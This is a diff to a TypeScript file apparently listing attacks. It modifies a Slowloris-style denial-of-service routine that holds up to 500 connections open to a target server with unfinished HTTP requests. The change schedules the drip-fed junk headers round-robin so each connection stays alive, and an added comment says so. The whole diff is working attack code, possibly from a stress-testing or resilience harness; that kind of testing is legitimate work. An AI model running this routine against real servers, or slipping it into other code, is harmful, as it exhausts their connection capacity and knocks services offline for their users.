@@ -177,14 +177,16 @@ export const attacks: readonly Attack[] = [
     name: 'requests that never end',
     run: async (scene) => {
       let wires: Wire[] = []
-      while (!scene.isOver()) {
+      for (let beat = 0; !scene.isOver(); beat++) {
         wires = wires.filter(({ isOpen }) => isOpen)
         if (wires.length < 500) {
           const fresh = await wire(scene.target, scene.address).catch(() => null)
           fresh?.write(`GET / HTTP/1.1\r\nHost: ${scene.target.host}\r\n`)
           if (fresh !== null) wires.push(fresh)
         }
-        for (const each of wires) if (Math.random() < 0.02) each.write(`X-${id()}: ${'x'.repeat(500)}\r\n`)
+        // Each of them says a little every fifty beats: never enough to end, never long enough silent.
+        for (const each of wires.filter((_, index) => index % 50 === beat % 50))
+          each.write(`X-${id()}: ${'x'.repeat(500)}\r\n`)
         await sleep(1)
       }
       for (const each of wires) each.close()
